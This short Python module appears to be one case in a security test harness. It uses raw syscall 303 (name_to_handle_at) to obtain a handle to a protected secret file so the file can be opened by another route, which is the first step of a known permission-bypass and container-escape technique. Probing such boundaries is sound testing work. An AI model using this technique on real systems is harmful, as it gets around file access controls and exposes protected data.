"""Takes a handle of a file that it may not open, to open it by elsewhere."""

import ctypes
import struct

import target
from tools import call


def run(tables, ask):
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136)
    where = ctypes.create_string_buffer(8)
    call(303, -100, target.SECRET.encode() + b"\0", handle, where, 0)
    return [0, 1]
